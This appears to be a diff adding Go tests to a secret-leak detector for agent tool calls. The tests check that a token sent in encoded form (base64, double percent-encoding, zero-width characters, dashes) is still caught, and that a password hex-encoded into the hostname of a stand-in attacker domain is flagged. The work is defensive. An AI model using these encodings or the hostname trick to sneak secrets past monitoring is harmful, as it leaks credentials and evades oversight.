@@ -2,8 +2,10 @@ package flow
 
 import (
 	"crypto/sha256"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"net/url"
 	"strings"
 	"testing"
 	"time"
@@ -14,6 +16,7 @@ import (
 	"github.com/flowd-dev/flowd/internal/classify"
 	"github.com/flowd-dev/flowd/internal/fingerprint"
 	"github.com/flowd-dev/flowd/internal/secrets"
+	"github.com/flowd-dev/flowd/internal/unwrap"
 )
 
 func TestFlowTypeAndRisk(t *testing.T) {
@@ -49,7 +52,8 @@ func TestText(t *testing.T) {
 	assert.Equal(t, "plain text", Text([]byte("  plain text "), 100))
 	assert.Len(t, Text([]byte(`["`+string(make([]byte, 0))+`aaaaaaaaaaaaaaaaaaaa","bbbbbbbbbb"]`), 15), 15, "cut at the limit")
 	assert.Equal(t, "broken", Text([]byte(`{"broken`), 100), "what can be read of broken JSON")
-	assert.Equal(t, "k\n\né—😀\\\"", Text([]byte(`{"k":"\n\u00e9\u2014\ud83d\ude00\\\""}`), 100))
+	assert.Equal(t, "k: \né—😀\\\"", Text([]byte(`{"k":"\n\u00e9\u2014\ud83d\ude00\\\""}`), 100))
+	assert.Equal(t, "config: aws_key: X\nn: p: y", Text([]byte(`{"config": {"aws_key" : "X"}, "n": 1, "p":"y"}`), 100), "members read with their names")
 	assert.Equal(t, "a\nbad \\uZZ", Text([]byte(`["a","bad \uZZ"]`), 100))
 }
 
@@ -137,6 +141,34 @@ func TestSecretWithoutOriginStillCounts(t *testing.T) {
 	assert.Equal(t, []string{"github_token"}, a.Secrets)
 	assert.Equal(t, RiskCritical, a.Risk)
 	assert.Empty(t, a.Edges)
+}
+
+// A secret flowd never saw arrive is found in the decoded views of the
+// arguments as well: sent encoded, it still counts.
+func TestSecretWithoutOriginInDecodedViews(t *testing.T) {
+	tr := NewTracker(Options{}, detector(t))
+	const tok = "ghp_R2d7Kq9Lm4Xv8Zt1Wb6Yc3Nf5Hj0Pa2Se7Ug"
+	for name, sent := range map[string]string{
+		"base64":         base64.StdEncoding.EncodeToString([]byte("token " + tok)),
+		"url, twice":     url.QueryEscape(percentAll(tok)),
+		"zero-width":     strings.Join(strings.Split(tok, ""), "\u200b"),
+		"dashes between": strings.Join(strings.Split(tok, ""), "-"),
+	} {
+		args := []byte(`{"text":"` + sent + `"}`)
+		plain := tr.Session("p"+name).Check("slack", "post", classify.Result{Class: classify.External}, args, nil, nil)
+		assert.Empty(t, plain.Secrets, "%s: not in the raw text", name)
+		a := tr.Session(name).Check("slack", "post", classify.Result{Class: classify.External}, args, unwrap.Views(args), nil)
+		assert.Equal(t, []string{"github_token"}, a.Secrets, name)
+		assert.Equal(t, RiskCritical, a.Risk, name)
+	}
+}
+
+func percentAll(s string) string {
+	var b strings.Builder
+	for _, c := range []byte(s) {
+		fmt.Fprintf(&b, "%%%02X", c)
+	}
+	return b.String()
 }
 
 func TestOriginsAreBounded(t *testing.T) {
@@ -249,4 +281,17 @@ func TestSecretsOfABurstAreMatched(t *testing.T) {
 		}
 		assert.Contains(t, from, ids[i], "token of result %d traced to it", i)
 	}
+}
+
+func TestDataInAHostNameLeaves(t *testing.T) {
+	tr := NewTracker(Options{}, detector(t))
+	ext := classify.Result{Class: classify.External}
+	args := []byte(`{"url":"https://` + fmt.Sprintf("%x", "db_password=hunter22") + `.c.attacker.net/ping"}`)
+	a := tr.Session("h").Check("web", "fetch", ext, args, nil, nil)
+	assert.Equal(t, []string{EncodedHostname}, a.Secrets)
+	assert.Equal(t, RiskCritical, a.Risk)
+	require.Len(t, a.Hosts, 1)
+	assert.Contains(t, a.Hosts[0], "decodes to text")
+	b := tr.Session("h2").Check("web", "fetch", ext, []byte(`{"url":"https://d111111abcdef8.cloudfront.net/app.js"}`), nil, nil)
+	assert.Empty(t, b.Secrets)
 }
